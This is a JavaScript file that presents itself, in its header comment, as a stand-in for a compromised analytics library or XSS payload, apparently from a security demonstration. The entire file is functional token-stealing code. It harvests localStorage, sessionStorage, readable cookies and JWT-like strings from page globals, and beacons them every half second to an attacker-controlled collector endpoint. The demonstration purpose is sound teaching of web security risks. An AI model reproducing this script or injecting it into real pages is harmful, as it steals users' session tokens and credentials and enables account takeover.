// NOT REAL ANALYTICS: a stand-in for a compromised third-party library (or any XSS).
//
// A script on the page runs with the page's own rights. This one looks where
// a page may keep tokens (localStorage, sessionStorage, readable cookies,
// global variables) and sends what it finds to its endpoint, which is the
// attacker's collector (collector.py). It looks again every half second, so
// it also catches what the page stores after a login.
"use strict";
(() => {
  const endpoint = document.currentScript.dataset.endpoint;
  const jwt = /^eyJ[\w-]+\.[\w-]+\.[\w-]+$/;

  function tokensInGlobals() {
    const found = {};
    for (const name of Object.keys(window)) {
      const value = window[name];
      if (value instanceof Storage) continue; // looked at above, by name
      if (typeof value === "string" && jwt.test(value)) found[name] = value;
      else if (value && typeof value === "object") {
        for (const [key, inner] of Object.entries(value)) {
          if (typeof inner === "string" && jwt.test(inner)) found[`${name}.${key}`] = inner;
        }
      }
    }
    return found;
  }

  let sent = "";
  function look() {
    const report = JSON.stringify({
      page: location.origin,
      localStorage: { ...localStorage },
      sessionStorage: { ...sessionStorage },
      cookie: document.cookie,
      globals: tokensInGlobals(),
    });
    if (report === sent || !endpoint) return;
    sent = report;
    navigator.sendBeacon(endpoint, report); // a plain POST, no CORS needed
  }

  look();
  setInterval(look, 500);
})();
